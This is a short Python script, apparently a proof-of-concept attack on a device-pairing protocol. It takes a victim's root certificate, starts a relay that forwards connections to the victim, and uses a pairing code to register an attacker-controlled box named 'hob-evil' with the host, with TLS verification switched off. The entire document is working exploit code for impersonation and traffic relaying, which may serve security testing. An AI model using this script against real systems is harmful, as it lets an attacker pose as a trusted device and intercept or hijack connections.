"""Somebody with a code who would be another box: its root is no secret, and a connection can be led to it."""

import http.client
import json
import socket
import ssl
import sys
import threading

HOST, VICTIM, CODE, KEY = sys.argv[1:]
TLS = ssl._create_unverified_context()


def ask(address, method, path, body=None):
    connection = http.client.HTTPSConnection(address, 11443, context=TLS, timeout=60)
    connection.request(method, path, body and json.dumps(body), {"content-type": "application/json"})
    answer = connection.getresponse()
    return answer.status, answer.read().decode()


def pass_on(source, sink):
    try:
        while data := source.recv(1 << 16):
            sink.sendall(data)
        sink.shutdown(socket.SHUT_WR)
    except OSError:
        pass


def lead(listener):
    while True:
        near, _ = listener.accept()
        far = socket.create_connection((VICTIM, 11443))
        for ends in ((near, far), (far, near)):
            threading.Thread(target=pass_on, args=ends, daemon=True).start()


_, root = ask(VICTIM, "GET", "/trust/root.pem")
listener = socket.create_server(("0.0.0.0", 0))
threading.Thread(target=lead, args=(listener,), daemon=True).start()
of_box = {"root": root, "port": listener.getsockname()[1], "key": KEY}
status, told = ask(HOST, "POST", "/pair", {"code": CODE, "name": "hob-evil", "box": of_box})
print(json.dumps({"status": status, "told": json.loads(told)}))
